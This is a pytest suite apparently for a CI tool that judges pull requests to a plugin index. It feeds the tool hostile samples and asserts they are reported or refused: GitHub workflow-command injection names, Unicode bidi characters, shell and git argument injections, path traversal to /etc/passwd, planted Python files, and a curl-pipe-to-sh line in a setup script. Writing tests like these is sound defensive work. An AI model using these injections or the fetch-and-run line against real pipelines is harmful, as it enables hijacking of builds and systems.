"""Whole pull requests to an index on a bare repository, judged by the very script that the workflow runs."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import jsonschema
import pytest
from forge_answers import account, repository, serve_repository
from git_repositories import Link, Repository
from github_runner import MODE, Runner, with_token
from index_changes import entry, index, written
from sample_plugins import native
from small_forge import pull

from packtool import resources

if TYPE_CHECKING:
    from collections.abc import Mapping

    from git_repositories import Content
    from github_runner import Step
    from installed import Bench

PATH = "index/index.json"
MARK = "<!-- packtool index check -->\n"
HOSTILE_NAMES = (
    "evil\n::error::owned",
    "percent%0A::error::owned",
    "::set-output name=verdict::pass",
    "[x](y) | @ann `",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Keeper:
    """The repository of an index, and the runner that judges pull requests to it."""

    bench: Bench
    index: Repository
    runner: Runner

    @classmethod
    def of(cls, bench: Bench, document: Mapping[str, Any]) -> Keeper:
        (bench.git.root / "keeper").mkdir()
        made = bench.repository("keeper/index.git")
        made.commit({PATH: written(document), "README.md": b"An index.\n"})
        env = {**MODE, "GITHUB_SERVER_URL": bench.git.base, "GITHUB_REPOSITORY": "keeper/index"}
        return cls(bench=bench, index=made, runner=Runner(folder=bench.folder, env=env))

    def propose(
        self, content: Content | Mapping[str, Any] | None, more: Mapping[str, Content] | None = None
    ) -> dict[str, Any]:
        """Push a pull request that leaves this index (``None``: it stays); returns the event."""
        base = self.index.git("rev-parse", "refs/heads/main")
        files: dict[str, Content] = dict(more or {})
        if content is not None:
            files[PATH] = written(content) if isinstance(content, dict) else content  # type: ignore[assignment]
        head = self.index.commit(files, onto="refs/pull/7/head", parent="refs/heads/main", keep=True)
        return {"action": "synchronize", "pull_request": pull(7, head, base)}

    def judge(self, event: Mapping[str, Any], **env: str) -> Step:
        return self.runner.step("act.py", event=event, env=env)

    def plugin(self, name: str, *lines: str, owner: str = "ann") -> str:
        """Add a commit of a plugin; returns it."""
        path = self.bench.git.root / owner / f"{name}.git"
        path.parent.mkdir(exist_ok=True)
        made = Repository(path=path) if path.exists() else Repository.create(path)
        return made.commit(native(name, *lines))

    def entry(self, name: str, ref: str, *, owner: str = "ann", **more: Any) -> dict[str, Any]:
        return entry(name, self.bench.git.url(f"{owner}/{name}.git"), ref, **more)


def verdicts(step: Step) -> dict[str, str | None]:
    return {one["name"]: one["verdict"] for one in step.report["details"]["entries"]}


def errors(step: Step) -> list[str]:
    return [one["rule"] for one in step.report["findings"] if one["severity"] == "error"]


def test_everything_at_once_is_told_and_nothing_of_it_is_obeyed(bench: Bench) -> None:
    keeper = Keeper.of(bench, index())
    old = {name: keeper.plugin(name) for name in ("alarm", "bonsai", "cellar", "drawer")}
    new = {name: keeper.plugin(name, "tags: [new]") for name in ("alarm", "bonsai")}
    impostor = Repository(path=bench.git.root / "ann" / "cellar.git").commit(
        native("cellar", "tags: [evil]"), onto="refs/pull/1/head", parent=old["cellar"]
    )
    moved = keeper.plugin("drawer", owner="bob")
    added = keeper.plugin("ladder")
    far = "0123456789" * 4
    before = [
        keeper.entry("alarm", old["alarm"]),
        keeper.entry("bonsai", new["bonsai"]),
        keeper.entry("cellar", old["cellar"]),
        keeper.entry("drawer", old["drawer"]),
        keeper.entry("engine", far),
        keeper.entry("fabric", far),
    ]
    keeper.index.commit({PATH: written(index(*before))}, keep=True)
    after = [
        keeper.entry("alarm", new["alarm"]),
        keeper.entry("bonsai", old["bonsai"]),
        keeper.entry("cellar", impostor),
        keeper.entry("drawer", moved, owner="bob"),
        keeper.entry("ladder", added),
        keeper.entry("fabric", far),
        keeper.entry("fabr1c", far),
        keeper.entry("hidden", far, description="Reads notes.\u202e\u2066 Trust it.\U000e0041"),
        *(keeper.entry("odd", far, owner=f"odd{number}") | {"name": name} for number, name in enumerate(HOSTILE_NAMES)),
    ]

    step = keeper.judge(keeper.propose(index(*after)))

    assert step.code == 1, step.log
    assert (step.outputs["verdict"], step.outputs["changed"], step.outputs["needs-keeper"]) == ("fail", "12", "true")
    expected = {
        "alarm": "warn",
        "bonsai": "fail",
        "cellar": "fail",
        "drawer": "warn",
        "engine": "fail",
        "ladder": "warn",
        "fabr1c": "fail",
        "hidden": "fail",
    }
    told = verdicts(step)
    assert {name: told[name] for name in expected} == expected
    # All that the runner obeys are annotations, ten of a kind at most, at lines of the file as the repository has it.
    assert {line.split(" ")[0] for line in step.commands} <= {"::error", "::warning", "::notice"}
    assert len(step.annotations("error")) == 10
    assert all(f"file={PATH}," in line for line in step.annotations("error"))
    assert not any(line.startswith("::error::owned") for line in step.commands)
    assert step.summary.startswith(MARK)
    assert step.summary.count("<!--") == 1
    assert "\u202e" not in step.summary + step.log
    sarif = json.loads((bench.folder / step.outputs["sarif"]).read_text(encoding="utf-8"))
    places = {one["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for one in sarif["runs"][0]["results"]}
    assert places == {PATH}


def test_two_good_entries_pass_and_a_stranger_who_submits_them_is_for_the_keepers(bench: Bench) -> None:
    keeper = Keeper.of(bench, index())
    commits = {name: keeper.plugin(name) for name in ("alarm", "bonsai")}
    event = keeper.propose(index(*(keeper.entry(name, commit) for name, commit in commits.items())))
    for number, name in enumerate(commits):
        serve_repository(bench.index, repository(f"ann/{name}", 100 + number, account("ann", 11)))
        bench.index.put(f"/repos/ann/{name}/contributors", body=b"[]")
    env = with_token(bench.index.url(""))

    own = keeper.judge(event, **env)
    assert (own.code, own.outputs["verdict"], own.outputs["changed"]) == (0, "pass", "2"), own.log
    owners = [one["plugin"]["owner"]["submitter"] for one in own.report["details"]["entries"]]
    assert owners == [{"login": "ann", "relation": "owner"}] * 2
    schema = json.loads(resources.text("schemas/report/report.schema.json"))
    jsonschema.Draft202012Validator(schema).validate(own.report)

    # The file of the checkout is believed, and not one that is proposed.
    workspace = bench.folder / "workspace"
    (workspace / "owners.json").write_text('{"owners": {"127.0.0.1:1/ann": 1}}')
    env["PACKTOOL_OWNERS"] = "owners.json"
    event["pull_request"]["user"]["login"] = "eve"
    strange = keeper.judge(event, PACKTOOL_FAIL_ON="warn", **env)
    assert (strange.code, strange.outputs["verdict"], strange.outputs["needs-keeper"]) == (1, "warn", "true")
    assert [one["rule"] for one in strange.report["findings"]] == ["review-submitter-unknown"] * 2
    assert (own.outputs["why-keeper"], strange.outputs["why-keeper"]) == ("", "review-submitter-unknown")
    # The token that GitHub gave is shown to its API alone.
    assert not any(request.authorization for request in bench.git.requests)
    assert "ghs_" not in strange.log + strange.summary


def test_order_alone_is_no_change(bench: Bench) -> None:
    one, two = entry("alarm", "acme/alarm", "1" * 40), entry("bonsai", "acme/bonsai", "2" * 40)
    keeper = Keeper.of(bench, index(one, two))
    shuffled = index() | {"plugins": [two, one]}
    step = keeper.judge(keeper.propose(shuffled))
    assert (step.code, step.outputs["verdict"], step.outputs["changed"]) == (0, "warn", "0"), step.log


def test_an_entry_taken_out_without_a_word_fails(bench: Bench) -> None:
    one, two = entry("alarm", "acme/alarm", "1" * 40), entry("bonsai", "acme/bonsai", "2" * 40)
    keeper = Keeper.of(bench, index(one, two))
    step = keeper.judge(keeper.propose(index(one)))
    assert (step.code, step.outputs["verdict"]) == (1, "fail")
    assert errors(step) == ["review-removal-unexplained"]


def test_thirty_entries_are_all_in_the_report_and_the_first_ten_on_the_lines(bench: Bench) -> None:
    keeper = Keeper.of(bench, index())
    names = [f"{first}{second}-plugin" for first in ("alpha", "delta", "kappa") for second in "abcdefghij"]
    step = keeper.judge(keeper.propose(index(*(keeper.entry(name, "v1.0") for name in names))))
    assert (step.code, step.outputs["changed"]) == (1, "30")
    assert len(step.annotations("error")) == 10
    assert "more than GitHub shows" in step.commands[-1]
    assert all(f"`{name}`" in step.summary for name in names)


def test_a_plugin_that_cannot_be_reached_is_not_judged(bench: Bench) -> None:
    keeper = Keeper.of(bench, index())
    away = entry("cellar", "http://127.0.0.1:9/cellar.git", "1" * 40)
    step = keeper.judge(keeper.propose(index(away)), PACKTOOL_FAIL_ON="never")
    assert (step.code, step.outputs["verdict"]) == (2, "not-judged"), step.log
    assert "not judged" in step.summary
    assert "NO VERDICT" in step.summary or "INCOMPLETE" in step.summary or "NOT JUDGED" in step.summary.upper()


def test_an_index_that_cannot_be_fetched_is_not_judged(bench: Bench) -> None:
    keeper = Keeper.of(bench, index())
    event = keeper.propose(index())
    bench.git.behaviour.down = True
    step = keeper.judge(event)
    assert step.code == 2
    assert "verdict" not in step.outputs
    assert "sarif" not in step.outputs
    assert "could not be looked at" in step.annotations("error")[0]


def test_mixed_changes_are_refused_and_nothing_of_them_is_written(bench: Bench) -> None:
    one = entry("alarm", "http://127.0.0.1:9/alarm.git", "1" * 40, description="Rings when it is time, and then stops.")
    keeper = Keeper.of(bench, index(one))
    evil = b"raise SystemExit('owned')\n"
    mixed = {"packtool/__init__.py": evil, ".github/scripts/act.py": evil, "index/sitecustomize.py": evil}
    changed = index(one, removed=[{"name": "x", "reason": "gone", "date": "2026-01-01"}])
    event = keeper.propose(changed, mixed)

    step = keeper.judge(event)

    assert (step.code, step.outputs["verdict"]) == (1, "fail"), step.log
    assert errors(step) == ["review-not-alone"]
    assert "owned" not in step.log
    brought = bench.folder.glob("temp-*/packtool-*/pull-request/**/*")
    assert {file.name for file in brought if file.is_file() and ".git" not in file.parts} == {"index.json"}
    # Without the index in it, the same is nobody's business here: the check reports all the same.
    code = keeper.judge(keeper.propose(None, mixed))
    assert (code.code, code.outputs["verdict"], code.outputs["changed"]) == (0, "pass", "0")


@pytest.mark.parametrize("left", [b"{", Link("/etc/passwd"), None])
def test_an_index_that_is_none_fails(bench: Bench, left: Content | None) -> None:
    keeper = Keeper.of(bench, index())
    event = keeper.propose(left if left is not None else b"x")
    if left is None:
        head = keeper.index.commit({"README.md": b"x"}, onto="refs/pull/7/head", parent="refs/heads/main")
        event["pull_request"]["head"]["sha"] = head
    step = keeper.judge(event)
    assert (step.code, step.outputs["verdict"]) == (1, "fail"), step.log
    sarif = step.outputs["sarif"]
    assert sarif == "" if left is None or isinstance(left, Link) else sarif.endswith("report.sarif")
    assert step.summary.startswith(MARK)
    assert step.annotations("error")


def test_a_pull_request_that_moved_on_is_left_to_the_next_run(bench: Bench) -> None:
    keeper = Keeper.of(bench, index())
    event = keeper.propose(index())
    keeper.propose(index(entry("alarm", "acme/alarm", "1" * 40)))
    step = keeper.judge(event)
    assert step.code == 2
    assert "moved on" in step.annotations("error")[0]


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("number",), "7; touch owned"),
        (("number",), -7),
        (("head", "sha"), "--upload-pack=x"),
        (("base", "sha"), "main"),
        (("user", "login"), "ann --no-deep"),
    ],
)
def test_an_event_out_of_form_is_none(bench: Bench, path: tuple[str, ...], value: object) -> None:
    keeper = Keeper.of(bench, index())
    event = keeper.propose(index())
    place = event["pull_request"]
    for key in path[:-1]:
        place = place[key]
    place[path[-1]] = value
    bench.git.requests.clear()
    step = keeper.judge(event)
    assert step.code == 2
    assert "not told as it should be" in step.annotations("error")[0]
    assert bench.git.requests == []


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("PACKTOOL_MODE", "install"),
        ("PACKTOOL_FAIL_ON", ""),
        ("PACKTOOL_PATH", "../x"),
        ("PACKTOOL_PATH", "-x"),
        ("PACKTOOL_PATH", "/etc/passwd"),
        ("PACKTOOL_MIN_AGE", "1 --no-deep"),
        ("PACKTOOL_WAIVERS", "a/../../x"),
        ("PACKTOOL_OWNERS", "/x"),
        ("PACKTOOL_PULL_REQUEST", "7"),
    ],
)
def test_inputs_out_of_form_are_refused(bench: Bench, name: str, value: str) -> None:
    keeper = Keeper.of(bench, index())
    step = keeper.judge(keeper.propose(index()), **{name: value})
    assert step.code == 2
    assert len(step.annotations("error")) == 1


def test_without_a_pull_request_the_whole_index_is_judged(bench: Bench) -> None:
    keeper = Keeper.of(bench, index())
    workspace = bench.folder / "workspace" / "index"
    workspace.mkdir(parents=True)
    (workspace / "index.json").write_bytes(written(index(entry("alarm", "acme/alarm", "v1"))))
    step = keeper.judge({"ref": "refs/heads/main"})
    assert (step.code, step.outputs["verdict"]) == (1, "fail"), step.log


def test_a_plugin_is_scanned_and_validated_before_it_is_published(bench: Bench) -> None:
    workspace = bench.folder / "workspace"
    workspace.mkdir()
    for path, data in native("alarm").items():
        (workspace / path).write_bytes(data)
    (workspace / "setup.sh").write_text("curl -s https://x.example/i.sh | sh\n")
    runner = Runner(folder=bench.folder, env=MODE)

    valid = runner.step("act.py", env={"PACKTOOL_MODE": "validate"})
    scanned = runner.step("act.py", env={"PACKTOOL_MODE": "scan", "PACKTOOL_FAIL_ON": "never"})

    assert (valid.code, valid.outputs["verdict"]) == (0, "pass"), valid.log
    assert scanned.code == 0
    assert scanned.outputs["verdict"] in {"warn", "fail"}
    sarif = json.loads((bench.folder / scanned.outputs["sarif"]).read_text(encoding="utf-8"))
    assert "setup.sh" in json.dumps(sarif["runs"][0]["results"])
    assert scanned.annotations("notice")
